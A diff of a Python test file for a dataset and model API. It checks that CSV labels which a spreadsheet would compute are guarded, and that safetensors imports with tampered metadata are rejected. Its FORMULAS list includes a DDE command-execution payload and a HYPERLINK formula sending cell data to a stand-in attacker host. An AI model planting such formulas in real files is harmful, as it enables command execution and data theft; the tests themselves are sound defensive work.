@@ -12,7 +12,7 @@ from test_bad_requests import check_problem
 CSV, JSON = {"Content-Type": "text/csv"}, {"Content-Type": "application/json"}
 
 FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1)", "+1+2", "-1-2", "-a", "+", "=", "\t=1", "\r=1"]
-HARMLESS = ["a=b", "a-b", "x@y", "-5", "+5", "-1e5", "'quoted'", "it's", "'", "''", "a'=b"]
+HARMLESS = ["a=b", "a-b", "x@y", "-5", "0.5", "-1e-7", "'quoted'", "it's", "'", "''", "a'=b"]
 APOSTROPHES = ["'=1+1", "''=1+1", "'-5", "'@x"]  # as they are: not our own escape
 
 
@@ -46,7 +46,7 @@ def test_labels_that_a_spreadsheet_would_compute_are_guarded_and_come_back(store
     again = store.request("POST", "/v1/datasets", raw=text, headers=CSV)
     assert again.status == 201 and again.json["classes"] == made["classes"]
     answer = store.get(f"/v1/datasets/{again.json['id']}/points?n={len(labels)}").json
-    assert {int(x): answer["classes"][label] for (x, _), label in zip(answer["points"], answer["labels"], strict=True)} == dict(enumerate(labels))
+    assert {int(x): label for (x, _), label in zip(answer["points"], answer["labels"], strict=True)} == dict(enumerate(labels))
 
 
 def _is_number(text):
@@ -110,21 +110,35 @@ def test_other_characters_in_names_are_kept(store):
     assert upload(store, GOOD)["classes"] == sorted(GOOD, key=str.encode)
 
 
-@pytest.mark.parametrize("odd", ["\u202e", "\x1b"])
-def test_odd_characters_in_a_model_that_comes_in(store, odd):
+@pytest.fixture(scope="module")
+def exported(store):
+    """The file of a model called "a name" with the classes "left" and "right"."""
     made = upload(store, ["left", "right"] * 20)
     job = store.submit({**QUICK, "name": "a name", "dataset": {"id": made["id"]}, "training": {"epochs": 1, "batch_size": 10}})
     assert store.wait(job)["status"] == "succeeded"
-    file = store.get(f"/v1/models/{job}/weights.safetensors").body
+    return store.get(f"/v1/models/{job}/weights.safetensors").body
+
+
+def bring_changed(store, file, key, old, new):
+    """Imports the file with another text in its metadata."""
     length = int.from_bytes(file[:8], "little")
     header = json.loads(file[8 : 8 + length])
-    for key, old in [("name", "a name"), ("spec", "left")]:
-        changed = json.loads(json.dumps(header))
-        assert old in changed["__metadata__"][key]
-        changed["__metadata__"][key] = changed["__metadata__"][key].replace(old, old + (odd if key == "name" else json.dumps(odd)[1:-1]))
-        head = json.dumps(changed).encode()
-        head += b" " * (-len(head) % 8)
-        raw = len(head).to_bytes(8, "little") + head + file[8 + length :]
-        answer = store.request("POST", "/v1/models", raw=raw, headers={"Content-Type": "application/octet-stream"})
-        errors = check_problem(answer, 422, "invalid_safetensors")["errors"]
+    assert old in header["__metadata__"][key]
+    header["__metadata__"][key] = header["__metadata__"][key].replace(old, new)
+    head = json.dumps(header).encode()
+    head += b" " * (-len(head) % 8)
+    raw = len(head).to_bytes(8, "little") + head + file[8 + length :]
+    return store.request("POST", "/v1/models", raw=raw, headers={"Content-Type": "application/octet-stream"})
+
+
+@pytest.mark.parametrize("odd", ["\u202e", "\x1b"])
+def test_odd_characters_in_a_model_that_comes_in(store, exported, odd):
+    for key, old, new in [("name", "a name", "a name" + odd), ("spec", "left", "left" + json.dumps(odd)[1:-1])]:
+        errors = check_problem(bring_changed(store, exported, key, old, new), 422, "invalid_safetensors")["errors"]
         assert [error["pointer"] for error in errors] == [f"/__metadata__/{key}"] and "must not have" in errors[0]["detail"]
+
+
+@pytest.mark.parametrize("new", ['"right"', '""', "1", "null", '"' + "x" * 65 + '"', '["left"]'])
+def test_classes_of_a_model_that_comes_in(store, exported, new):
+    errors = check_problem(bring_changed(store, exported, "spec", '"left"', new), 422, "invalid_safetensors")["errors"]
+    assert errors[0]["pointer"] == "/__metadata__/spec" and "/dataset/classes" in errors[0]["detail"]
